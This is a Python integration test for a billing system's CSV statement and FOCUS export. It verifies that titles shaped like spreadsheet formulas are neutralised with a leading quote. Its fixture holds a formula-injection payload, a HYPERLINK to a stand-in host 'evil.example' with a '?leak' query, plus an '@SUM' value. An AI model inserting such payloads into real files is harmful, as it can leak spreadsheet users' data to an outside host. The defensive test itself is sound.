"""An engagement title (or code) that a spreadsheet would run as a formula reaches no CSV Mutua
writes as a formula: the statement CSV (CLI, API, portal) and the FOCUS export carry it with a
single quote in front, and their amounts, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine

from mutua.billing import service as billing
from mutua.bootstrap import unit_of_work
from mutua.charging.service import imports
from mutua.charging.service.close import TrueUpMode, close_period, true_up
from mutua.charging.service.reporting import member_statement, statement_csv
from mutua.costing.service import import_cost_model
from mutua.kernel.periods import Period, months_of
from mutua.registry import service as registry_service
from tests.integration import small
from tests.integration.small import A, B, write

EVIL = '=HYPERLINK("http://evil.example/?leak","Portal")'


@pytest.fixture
def evil_year(engine: Engine, tmp_path: Path) -> Engine:
    uow = unit_of_work(engine)
    import_cost_model(uow, write(tmp_path, "model.yaml", small.MODEL))
    registry_service.import_members(uow, write(tmp_path, "members.csv", small.MEMBERS))
    engagements = small.ENGAGEMENTS.replace(",Portal,", ',"' + EVIL.replace('"', '""') + '",').replace(
        ",Cloud B,", ",@SUM(A1:A9),"
    )
    registry_service.import_engagements(uow, write(tmp_path, "engagements.csv", engagements))
    for p in months_of(2025):  # C1 uses far more VM-hours than VM costs: its true-up is a credit
        imports.import_ledger(unit_of_work(engine), write(tmp_path, f"ledger-{p}.csv", small.ledger(str(p))))
        imports.import_time_sheets(unit_of_work(engine), write(tmp_path, f"time-{p}.csv", small.time_sheet(str(p))))
        imports.import_usage(unit_of_work(engine), write(tmp_path, f"usage-{p}.csv", small.usage(str(p), a="10000")))
        close_period(unit_of_work(engine), p)
    true_up(unit_of_work(engine), 2025, TrueUpMode.SETTLE)
    return engine


def test_the_statement_csv_neutralises_a_formula_title_and_keeps_negative_amounts_numbers(evil_year: Engine) -> None:
    statement = member_statement(unit_of_work(evil_year), A, Period(2025, 12))
    rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
    titles = {r["engagement"]: r["title"] for r in rows}
    assert titles["P1"] == "'" + EVIL
    amounts = [Decimal(r["amount"]) for r in rows]  # every amount still reads as a number
    assert any(a < 0 for a in amounts), rows  # the true-up's credit, written as -x.xx
    assert all(not r["amount"].startswith("'") for r in rows)
    other = list(
        csv.DictReader(io.StringIO(statement_csv(member_statement(unit_of_work(evil_year), B, Period(2025, 1)))))
    )
    assert {r["title"] for r in other if r["engagement"] == "C2"} == {"'@SUM(A1:A9)"}


def test_the_focus_export_neutralises_a_formula_title_and_keeps_its_costs_numbers(evil_year: Engine) -> None:
    export = billing.focus_export(unit_of_work(evil_year), 2025)
    rows = list(csv.DictReader(io.StringIO(export.to_csv())))
    names = {r["SubAccountId"]: r["SubAccountName"] for r in rows}
    assert names["P1"] == "'" + EVIL and names["C2"] == "'@SUM(A1:A9)"
    negative = [r for r in rows if r["BilledCost"].startswith("-")]
    assert negative, "the true-up's credits are negative costs"
    assert sum(Decimal(r["BilledCost"]) for r in rows) == export.billed_total
